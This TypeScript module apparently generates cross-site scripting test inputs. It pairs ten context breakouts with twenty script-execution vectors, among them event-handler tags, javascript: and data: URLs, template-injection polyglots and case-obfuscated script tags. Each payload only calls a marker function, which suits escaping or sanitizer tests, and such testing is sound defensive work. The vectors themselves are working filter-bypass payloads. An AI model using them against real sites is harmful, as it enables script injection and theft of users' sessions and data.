/** Ends of the places where a text may stand: an element, an attribute, a script, a comment, a style. */
const breakouts = [
  "",
  `">`,
  `'>`,
  "</title>",
  "</textarea></select>",
  `</script>`,
  "-->",
  "]]>",
  "</style>",
  "</noscript></template>",
];

/** Ways to run a script, each with a mark by which its element is found in the page. */
const vectors: ((mark: string, run: string) => string)[] = [
  (mark, run) => `<script ${mark}>${run}</script>`,
  (mark, run) => `<img ${mark} src=x onerror=${run}>`,
  (mark, run) => `<svg ${mark} onload=${run}>`,
  (mark, run) => `<svg ${mark}><animate onbegin=${run} attributeName=x dur=1s>`,
  (mark, run) => `<iframe ${mark} srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  (mark, run) => `<iframe ${mark} src=javascript:parent.${run}></iframe>`,
  (mark, run) => `<input ${mark} autofocus onfocus=${run}>`,
  (mark, run) => `<details ${mark} open ontoggle=${run}>`,
  (mark, run) => `<video ${mark}><source onerror=${run}></video>`,
  (mark, run) => `<object ${mark} data=javascript:${run}></object>`,
  (mark, run) => `<a ${mark} href=javascript:${run}>x</a>`,
  (mark, run) => `<form ${mark} action=javascript:${run}><button>x</button></form>`,
  (mark, run) => `<math ${mark}><mtext><script>${run}</script></mtext></math>`,
  (mark, run) => `<style ${mark}>@keyframes x{}*{animation:x 1s}</style><b onanimationstart=${run}>x</b>`,
  (mark, run) => `" ${mark} autofocus onfocus=${run} x="`,
  (mark, run) => `' ${mark} style=animation-name:x onanimationstart=${run} x='`,
  (_mark, run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  (_mark, run) => `\${${run}}{{constructor.constructor('${run}')()}}<%=${run}%>`,
  (_mark, run) => `";${run};//';${run};//\\";${run}//`,
  (mark, run) => `<ScRiPt ${mark}\n>/*\u2028*/${run}</sCrIpT\n>`,
];

export const mark = "data-payload";
/** Called by whatever runs. */
export const runName = "payloadRan";

/** Two hundred: every vector after every breakout. */
export const payloads: readonly string[] = breakouts.flatMap((breakout, row) =>
  vectors.map((vector, column) => {
    const id = row * vectors.length + column;
    return breakout + vector(`${mark}=${id}`, `${runName}(${id})`);
  }),
);

/** In place of an address. */
export const addressPayloads: readonly string[] = [
  `javascript:${runName}(-1)`,
  `JaVaScRiPt:${runName}(-2)`,
  `\tjava\nscript:${runName}(-3)`,
  `data:text/html,<script>parent.${runName}(-4)</script>`,
  `javascript://zertsalo.ru/%0a${runName}(-5)`,
];
